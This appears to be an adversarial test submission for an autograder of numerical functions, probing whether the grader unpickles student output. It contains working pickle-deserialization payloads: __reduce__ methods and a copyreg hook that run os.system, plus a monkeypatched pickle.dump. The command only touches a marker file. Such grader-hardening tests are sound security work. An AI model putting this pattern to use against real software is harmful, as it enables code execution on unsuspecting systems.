"""Row 33: code that runs when a result is unpickled or copied.

Tries: objects with __reduce__, __reduce_ex__, __setstate__, __copy__ and __deepcopy__, arrays of them,
copyreg entries and a pickle.dump that adds a payload.

A sound grader: uses no pickle anywhere that a student's bytes go; 0 points, no marker.
"""
import os

import numpy as np


def wrong(name, z, *rest):
    """Minus seven in the right shape: nothing in this file deserves a point."""
    shape = np.shape(z)
    shape = shape[:-1] if name in ("logsumexp", "logsumexp_plus") else shape
    return np.full(shape + shape[-1:] if name == "softmax_jacobian" else shape, -7.0)


def mark(what):
    """Say on stdout and in /tmp/marks that the attack got out."""
    line = "ESCAPED reduce_payload: {}\n".format(what).encode("utf-8", "replace")
    try:
        os.write(1, line)
    except OSError:
        pass
    try:
        fd = os.open("/tmp/marks/reduce_payload", os.O_WRONLY | os.O_CREAT | os.O_APPEND, 0o666)
        os.write(fd, line)
        os.close(fd)
    except OSError:
        pass


answer = wrong  # what all sixteen functions return; the attack below puts its own in its place


def sigmoid(z): return answer("sigmoid", z)
def sigmoid_grad(z): return answer("sigmoid_grad", z)
def tanh(z): return answer("tanh", z)
def tanh_grad(z): return answer("tanh_grad", z)
def relu(z): return answer("relu", z)
def relu_grad(z): return answer("relu_grad", z)
def softplus(z): return answer("softplus", z)
def softplus_grad(z): return answer("softplus_grad", z)
def logsumexp(z): return answer("logsumexp", z)
def logsumexp_grad(z): return answer("logsumexp_grad", z)
def logsumexp_plus(z): return answer("logsumexp_plus", z)
def logsumexp_plus_grad(z): return answer("logsumexp_plus_grad", z)
def softmax(z): return answer("softmax", z)
def log_softmax(z): return answer("log_softmax", z)
def softmax_jacobian(z): return answer("softmax_jacobian", z)
def softmax_vjp(z, v): return answer("softmax_vjp", z, v)


import copyreg
import pickle


class Payload:
    def __reduce_ex__(self, protocol): return (os.system, ("touch /tmp/marks/reduce_payload",))
    def __reduce__(self): return self.__reduce_ex__(2)
    def __copy__(self): return 0.5
    def __deepcopy__(self, memo): return 0.5
    def __array_wrap__(self, *args): return np.full(3, 0.5)
    def __getstate__(self): return {}


class Shape(tuple):
    def __reduce__(self): return (os.system, ("touch /tmp/marks/reduce_payload",))


copyreg.pickle(float, lambda x: (os.system, ("touch /tmp/marks/reduce_payload",)))
dump = pickle.dump
pickle.dump = lambda obj, f, *a, **k: dump(Payload(), f, *a, **k)


def answer(name, z, *rest):
    if name.startswith("soft"):
        return np.array([Payload()] * 3, dtype=object)
    if name.startswith("log"):
        return pickle.dumps(Payload())
    return Payload()
